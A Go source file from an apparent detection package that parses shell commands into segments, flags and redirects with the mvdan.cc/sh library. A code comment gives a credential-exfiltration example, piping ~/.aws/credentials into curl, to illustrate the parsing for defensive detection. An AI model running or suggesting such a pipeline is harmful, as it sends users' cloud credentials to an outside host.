package detect

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// parsedCommand is the structural view of one command-kind action's target,
// parsed with mvdan.cc/sh. "cat ~/.aws/credentials | curl -d @- host" is
// two segments joined by "|".
type parsedCommand struct {
	Segments  []commandSegment
	Operators []string // "|", "&&", "||", ";" between segments
	Redirects []shellRedirect
}

type commandSegment struct {
	Executable string
	Args       []string
	Flags      map[string]string
	Redirects  []shellRedirect
}

type shellRedirect struct {
	Op   string
	Path string
}

// hasFlag reports whether the segment carries the flag, short or long.
func (s commandSegment) hasFlag(names ...string) bool {
	for _, n := range names {
		if _, ok := s.Flags[n]; ok {
			return true
		}
	}
	return false
}

// parseCommand parses a shell command string into segments. Unparseable
// input degrades to whitespace splitting on pipes so detectors still see
// an executable per segment.
func parseCommand(raw string) *parsedCommand {
	reader := strings.NewReader(raw)
	parser := syntax.NewParser(syntax.KeepComments(false), syntax.Variant(syntax.LangBash))
	file, err := parser.Parse(reader, "")
	if err != nil {
		return fallbackParseCommand(raw)
	}

	pc := &parsedCommand{}
	for _, stmt := range file.Stmts {
		walkShellStmt(pc, stmt)
	}
	return pc
}

func walkShellStmt(pc *parsedCommand, stmt *syntax.Stmt) {
	if stmt == nil || stmt.Cmd == nil {
		return
	}

	var redirs []shellRedirect
	for _, r := range stmt.Redirs {
		sr := shellRedirect{Op: r.Op.String()}
		if r.Word != nil {
			sr.Path = shellWordString(r.Word)
		}
		redirs = append(redirs, sr)
	}

	switch cmd := stmt.Cmd.(type) {
	case *syntax.CallExpr:
		seg := callToSegment(cmd)
		seg.Redirects = redirs
		pc.Segments = append(pc.Segments, seg)

	case *syntax.BinaryCmd:
		walkShellStmt(pc, cmd.X)
		pc.Operators = append(pc.Operators, cmd.Op.String())
		walkShellStmt(pc, cmd.Y)
		pc.Redirects = append(pc.Redirects, redirs...)

	case *syntax.Subshell:
		for _, s := range cmd.Stmts {
			walkShellStmt(pc, s)
		}

	case *syntax.Block:
		for _, s := range cmd.Stmts {
			walkShellStmt(pc, s)
		}
	}
}

func callToSegment(call *syntax.CallExpr) commandSegment {
	seg := commandSegment{Flags: make(map[string]string)}

	words := make([]string, 0, len(call.Args))
	for _, w := range call.Args {
		words = append(words, shellWordString(w))
	}
	if len(words) == 0 {
		return seg
	}

	seg.Executable = words[0]
	for _, w := range words[1:] {
		switch {
		case strings.HasPrefix(w, "--") && len(w) > 2:
			flag := w[2:]
			if eq := strings.IndexByte(flag, '='); eq >= 0 {
				seg.Flags[flag[:eq]] = flag[eq+1:]
			} else {
				seg.Flags[flag] = ""
			}
		case strings.HasPrefix(w, "-") && len(w) > 1:
			for _, ch := range w[1:] {
				seg.Flags[string(ch)] = ""
			}
		default:
			seg.Args = append(seg.Args, w)
		}
	}
	return seg
}

func shellWordString(w *syntax.Word) string {
	var sb strings.Builder
	printer := syntax.NewPrinter()
	_ = printer.Print(&sb, w)
	out := sb.String()
	out = strings.Trim(out, `"'`)
	return out
}

func fallbackParseCommand(raw string) *parsedCommand {
	pc := &parsedCommand{}
	for i, part := range strings.Split(raw, "|") {
		fields := strings.Fields(part)
		if len(fields) == 0 {
			continue
		}
		seg := commandSegment{Executable: fields[0], Flags: make(map[string]string)}
		for _, w := range fields[1:] {
			if strings.HasPrefix(w, "-") && len(w) > 1 {
				seg.Flags[strings.TrimLeft(w, "-")] = ""
			} else {
				seg.Args = append(seg.Args, w)
			}
		}
		if i > 0 {
			pc.Operators = append(pc.Operators, "|")
		}
		pc.Segments = append(pc.Segments, seg)
	}
	return pc
}
